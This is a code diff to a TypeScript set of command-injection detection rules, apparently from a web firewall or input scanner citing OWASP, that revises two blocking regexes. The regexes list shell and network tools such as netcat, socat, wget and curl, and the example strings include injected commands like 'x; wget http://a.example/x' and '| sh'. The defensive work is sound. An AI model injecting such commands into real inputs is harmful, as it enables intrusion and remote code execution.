@@ -84,7 +84,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     action: 'block',
     confidence: 0.91,
     where: ['path', 'name', 'value'],
-    match: { regex: String.raw`(?:;|&&|\|\||\x60|\$\(|^\s*[|&])[\s({'"]*${PATHS}${EVERYDAY}(?:\s*$|\s*[;|&)\x60]|\s+(?:-{1,2}[a-z]|/\w|\d{1,2}:\d\d|\S+\s*$))` },
+    match: { regex: String.raw`(?:;|&&|\|\||\x60|\$\(|^\s*[|&])[\s({'"]*${PATHS}${EVERYDAY}(?:\s*$|\s*[;|&)\x60]|\s+(?:-{1,2}[a-z]|/\w|\d{1,2}:\d\d|\S*[./\d_-]\S*\s*$))|\|\s?${PATHS}(?:id|ls|ps|env|set|who|w|dir)\s*\|?\s*$|^id\s*[|;&]\s*$` },
     examples: { match: [';set', '; find /tmp', '|| id'], spare: ['make; do', 'first, then find', 'a | type | null'] },
     source: OWASP,
   },
@@ -97,7 +97,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.92,
     where: 'any',
     match: {
-      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|\n)[\s('"]*(?:(?:sudo|time|nohup|exec)\s+)?${PATHS}(?:whoami|ifconfig|uname|netstat|nslookup|printenv|useradd|adduser|chmod|chown|mkfifo|crontab|nohup|strace|nmap|ncat|netcat|socat|wget|curl|lwp-download|busybox|python[23]?|perl|bash|zsh|ksh|tcsh|ash|sh|gunzip|lsof|systemctl|sudo|apt-get|aptitude|yum|pip3?|gcc|xxd|tac|telnet|tftp|ping|cat|ls|rm|echo|sleep|ansible|cscli|lastlog|visudo|dig|mkdir|cpulimit|perf|rmt|irb|ansible-\w+|chef-\w+)(?:[\d.]{0,4})['"]?${END}`,
+      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|\n)[\s('"]*(?:(?:sudo|time|nohup|exec)\s+)?${PATHS}(?:whoami|ifconfig|uname|netstat|nslookup|printenv|useradd|adduser|chmod|chown|mkfifo|crontab|nohup|strace|nmap|ncat|netcat|socat|wget|curl|lwp-download|busybox|python[23]?|perl|bash|zsh|ksh|tcsh|ash|sh|gunzip|lsof|systemctl|sudo|apt-get|aptitude|yum|pip3?|gcc|xxd|tac|telnet|tftp|ping|cat|ls|rm|echo|sleep|ansible|cscli|lastlog|visudo|dig|mkdir|cpulimit|perf|rmt|irb|ansible-\w+|chef-\w+)(?:\d(?:\.\d+)?)?['"]?${END}`,
     },
     examples: {
       match: ['x; wget http://a.example/x', '| sh', '; sleep 5', 'a;ping 10.0.0.1'],
